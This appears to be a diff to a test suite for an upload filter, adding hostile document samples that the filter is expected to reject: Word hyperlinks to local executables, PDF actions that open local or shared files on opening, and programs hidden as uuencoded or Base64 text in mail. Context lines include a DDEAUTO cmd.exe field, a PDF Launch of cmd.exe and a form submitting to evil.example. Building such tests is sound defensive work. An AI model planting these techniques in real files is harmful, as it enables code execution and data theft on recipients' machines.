@@ -1,4 +1,15 @@
-import { docx, mail, pdfStream, program, rtf, text, wholePdf, xlsx } from "./samples.ts";
+import {
+  docx,
+  mail,
+  pdfStream,
+  plainMail,
+  program,
+  rtf,
+  text,
+  uuencoded,
+  wholePdf,
+  xlsx,
+} from "./samples.ts";
 import { type HostileUpload, rejected } from "./upload.ts";
 import { zip, type ZipEntry } from "./zip.ts";
 
@@ -44,6 +55,8 @@ const OFFICE_FILES: readonly [string, Buffer][] = [
   ["an element of an object", part('<q:OLEObject xmlns:q="o" ProgID="Package"/>')],
   ["a link that runs a program", docx([related("hyperlink", "ms-msdt:/id x")])],
   ["a link to a script", docx([related("hyperlink", "java\tscript:alert(1)")])],
+  ["a link to a local program", docx([related("hyperlink", "file:///c:/a.exe")])],
+  ["a link to a local folder", docx([related("hyperlink", "file:///c:/windows/system32")])],
   ["a link to a share", docx([related("hyperlink", "\\\\server\\a.exe")])],
   ["a link to a program beside it", docx([related("hyperlink", "setup.exe")])],
   ["a DDE field", part(code("DDEAUTO c:\\\\windows\\\\cmd.exe"))],
@@ -121,10 +134,25 @@ const PDFS: readonly [string, Buffer][] = [
   ["an action that starts a program", action("/S /Launch /F (cmd.exe)")],
   ["a spelled action that starts a program", action(`/#53 /${hex("Launch")} /F (cmd)`)],
   ["a page of a remote file", action("/S /GoToR /F (\\\\\\\\server\\\\a.pdf)")],
+  ["a page of a file in another folder", action("/S /GoToR /F (../a.pdf)")],
+  [
+    "a page of a file beside it on opening",
+    wholePdf("<< /OpenAction << /S /GoToR /F (a.pdf) /D [0 /Fit] >> >>"),
+  ],
   ["a page of an attached file", action("/S /GoToE /T << /R /C /N (a.pdf) >>")],
   ["a link to a file", action("/S /URI /URI (file:///c:/windows/calc.exe)")],
   ["a link to a file in UTF-16", action("/S /URI /URI <FEFF00660069006C0065003A002F0061>")],
   ["a link to a script on an annotation", wholePdf("<< /A << /S /URI /URI (javascript:a) >> >>")],
+  ["a link to a document on a share", action("/S /URI /URI (file://server/share/a.pdf)")],
+  ["a link to a program with a query", action("/S /URI /URI (file:///c:/a.exe?b.pdf)")],
+  [
+    "a link to a local page on opening",
+    wholePdf("<< /OpenAction << /S /URI /URI (file:///c:/a.html) >> >>"),
+  ],
+  [
+    "a link to a local page on a page's opening",
+    wholePdf("<< /AA << /O 6 0 R >> >>", "<< /S /URI /URI (file:///c:/a.html) >>"),
+  ],
   ["a link to a share", action("/S /URI /URI (\\\\\\\\server\\\\share)")],
   ["a form that sends data", action("/S /SubmitForm /F (https://evil.example)")],
   ["an import of data", action("/S /ImportData /F (a.fdf)")],
@@ -216,9 +244,20 @@ const MAILS: readonly [string, Buffer][] = [
     "a program in a continued name",
     disposed("text/plain", 'attachment; filename*0="a.e"; filename*1="xe"', "x"),
   ],
+  ["a program in its text", plainMail(uuencoded("a.exe", text()))],
+  ["a program in its text by its content", plainMail(uuencoded("a.dat", program()))],
+  ["a second file in its text", plainMail(uuencoded("a.txt", text()) + uuencoded("b.js", text()))],
   [
-    "a program in its text",
-    Buffer.from("From: a@example.com\r\n\r\nbegin 644 a.exe\r\n#0V%T\r\n`\r\nend\r\n"),
+    "a script of a PDF in its text",
+    plainMail(`See.\n${uuencoded("a.pdf", action("/S /JavaScript /JS (app.alert)"))}`),
+  ],
+  [
+    "a program in uuencode",
+    plainMail(uuencoded("a.dat", program()), "Content-Transfer-Encoding: x-uuencode\r\n"),
+  ],
+  [
+    "a program in Base64 in its text",
+    plainMail(`begin-base64 644 a.dat\n${program().toString("base64")}\n====\n`),
   ],
   ["a ZIP with a program", mail({ name: "a.zip", data: inside("a.exe") })],
   ["a mail with a program", mail({ name: "a.eml", data: mail({ name: "a.scr", data: text() }) })],
